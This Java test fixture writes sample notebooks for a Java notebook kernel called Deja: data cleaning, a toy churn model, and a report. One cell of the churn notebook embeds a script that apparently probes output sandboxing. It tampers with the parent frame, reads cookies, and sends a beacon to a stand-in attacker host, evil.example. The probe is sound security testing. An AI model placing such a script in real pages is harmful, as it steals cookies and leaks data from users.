package dev.deja.e2e;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;

/** Notebooks that give the page something to show: data, a model, a report. */
final class PageNotebooks {

  private static final List<String> CLEAN =
      List.of(
          "# Clean customer data",
          """
          record Customer(String name, int age, double spend) {}
          var customers = new ArrayList<Customer>();
          for (var line : Files.readAllLines(Path.of("raw.csv"))) {
            var parts = line.split(",");
            if (!parts[1].isBlank()) {
              customers.add(new Customer(parts[0], Integer.parseInt(parts[1]), Double.parseDouble(parts[2])));
            }
          }
          customers""",
          """
          Deja.artifact("customers", customers);
          Files.write(Path.of("customers.csv"), customers.stream().map(c -> c.name() + "," + c.age() + "," + c.spend()).toList());
          System.err.println("one row had no age");""",
          "!echo cleaned");

  private static final List<String> CHURN =
      List.of(
          "# Train a churn model\n\nGradient descent on *spend*.",
          "double rate = Deja.parameter(\"rate\", 0.03);\nint steps = Deja.parameter(\"steps\", 60);",
          "var lines = Files.readAllLines(Path.of(\"customers.csv\"));\nlines.size()",
          """
          var random = new Random(7);
          double weight = 0.1;
          for (int step = 1; step <= steps; step++) {
            weight += rate * (0.8 - weight);
            double loss = Math.pow(0.8 - weight, 2) + 0.02 + random.nextDouble() * 0.0008;
            System.out.println("{\\"step\\": " + step + ", \\"loss\\": " + loss + ", \\"accuracy\\": " + (0.5 + 0.45 * (1 - loss)) + "}");
          }
          Files.writeString(Path.of("model.txt"), "weight=" + weight + "\\n");
          weight""",
          """
          import java.awt.Color;
          import java.awt.image.BufferedImage;
          var picture = new BufferedImage(480, 160, BufferedImage.TYPE_INT_RGB);
          var brush = picture.createGraphics();
          brush.setColor(Color.WHITE);
          brush.fillRect(0, 0, 480, 160);
          for (int i = 0; i < 18; i++) {
            brush.setColor(Color.getHSBColor(0.68f - i * 0.01f, 0.65f, 0.95f));
            int height = (int) (130 * (1 - Math.exp(-i / 5.0)));
            brush.fillRect(14 + i * 25, 148 - height, 19, height);
          }
          Deja.artifact("chart", picture);
          picture""",
          """
          Deja.html(\"""
            <table><tr><th>metric</th><th>value</th></tr><tr><td>weight</td><td>0.80</td></tr></table>
            <p id="report"></p>
            <script>
              const said = [];
              const attempt = (name, action) => { try { action(); said.push(name + ': done'); } catch { said.push(name + ': refused'); } };
              attempt('parent', () => { parent.stolen = true; parent.document.title = 'stolen'; });
              attempt('cookie', () => document.cookie);
              said.push('origin: ' + origin);
              fetch('/api/v1/store').then(() => 'done', () => 'refused').then(how => {
                said.push('server: ' + how);
                new Image().src = 'https://evil.example/' + how;
                said.push('done');
                document.getElementById('report').textContent = said.join('; ');
              });
            </script>\""");""");

  private static final List<String> REPORT =
      List.of(
          "# Report",
          "var model = Files.readString(Path.of(\"model.txt\"));\nmodel",
          "Files.writeString(Path.of(\"report.html\"), \"<h1>Report</h1>\" + model);");

  private PageNotebooks() {}

  /** Writes them, and the data that the first one reads. */
  static void write(Path folder) throws IOException {
    write(folder.resolve("clean.ipynb"), CLEAN);
    write(folder.resolve("churn.ipynb"), CHURN);
    write(folder.resolve("report.ipynb"), REPORT);
    Files.writeString(
        folder.resolve("raw.csv"), "Ada,36,120.5\nBob,,15\nCem,29,78.25\nDora,51,300\n");
  }

  /** What begins with a number sign is text. */
  private static void write(Path file, List<String> sources) throws IOException {
    ObjectMapper json = new ObjectMapper();
    ObjectNode notebook = json.createObjectNode();
    var cells = notebook.putArray("cells");
    for (int i = 0; i < sources.size(); i++) {
      boolean text = sources.get(i).startsWith("# ");
      ObjectNode cell = cells.addObject();
      cell.put("cell_type", text ? "markdown" : "code").put("id", "cell-" + i);
      cell.putObject("metadata");
      cell.put("source", sources.get(i));
      if (!text) {
        cell.putArray("outputs");
        cell.putNull("execution_count");
      }
    }
    notebook
        .putObject("metadata")
        .putObject("kernelspec")
        .put("name", "deja")
        .put("display_name", "Java (Deja)")
        .put("language", "java");
    notebook.put("nbformat", 4).put("nbformat_minor", 5);
    json.writeValue(file.toFile(), notebook);
  }
}
